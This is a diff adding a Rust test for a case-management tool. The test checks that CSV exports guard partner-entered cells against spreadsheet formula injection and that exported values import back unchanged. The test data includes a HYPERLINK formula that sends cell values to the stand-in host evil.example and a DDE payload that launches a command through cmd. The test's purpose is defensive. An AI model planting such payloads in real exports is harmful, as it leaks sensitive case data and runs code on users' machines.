@@ -830,3 +830,67 @@ async fn closed_cases(db: &TestDb) {
     assert_eq!(db.cases().await, 2);
 }
 on_both!(closed_cases);
+
+/// Issue 19, item 2: what a joint partner may write (`gbvIndicators`, `gbvRiskLevel`) cannot run as
+/// a formula in the owner's export, and the export imports back to the same values.
+async fn exports_run_no_formulas(db: &TestDb) {
+    let file = db.file(
+        "one.csv",
+        "code,phase,openedOn,phone\nC-1,PRIMA_ACCOGLIENZA,2023-01-10,+39 035 000000\n",
+    );
+    assert!(import(db, &file, &[]).status.success());
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&B2&"-"&P2,"Apri scheda")"#;
+    let dde = "-2+3+cmd|' /C calc'!A0";
+    // As a joint partner's updateCase stores them.
+    let conn = db.conn().await;
+    let backend = conn.get_database_backend();
+    conn.execute(Statement::from_sql_and_values(
+        backend,
+        match backend {
+            sea_orm::DatabaseBackend::Postgres => {
+                "UPDATE cases SET gbv_indicators = $1, gbv_risk_level = $2 WHERE code = 'C-1'"
+            }
+            _ => "UPDATE cases SET gbv_indicators = ?, gbv_risk_level = ? WHERE code = 'C-1'",
+        },
+        [
+            serde_json::json!([hyperlink]).to_string().into(),
+            dde.into(),
+        ],
+    ))
+    .await
+    .expect("the partner's values");
+    conn.close().await.ok();
+    let path = db.dir.join("export.csv");
+    let out = export(db, ENTE, &path);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let exported = std::fs::read_to_string(&path).expect("export");
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(exported.as_bytes());
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        let record = record.expect("a CSV record");
+        cells.extend(record.iter().map(str::to_string));
+    }
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}\n{exported}"
+        );
+    }
+    for value in [hyperlink, dde, "+39 035 000000"] {
+        assert!(
+            cells.contains(&format!("'{value}")),
+            "{value} guarded\n{exported}"
+        );
+    }
+    // The import undoes the guard: the round trip changes nothing.
+    let out = import(db, path.to_str().unwrap_or_default(), &[]);
+    assert!(out.status.success(), "{}", stdout(&out));
+    assert!(
+        stdout(&out).contains("0 created, 1 unchanged"),
+        "{}",
+        stdout(&out)
+    );
+}
+on_both!(exports_run_no_formulas);
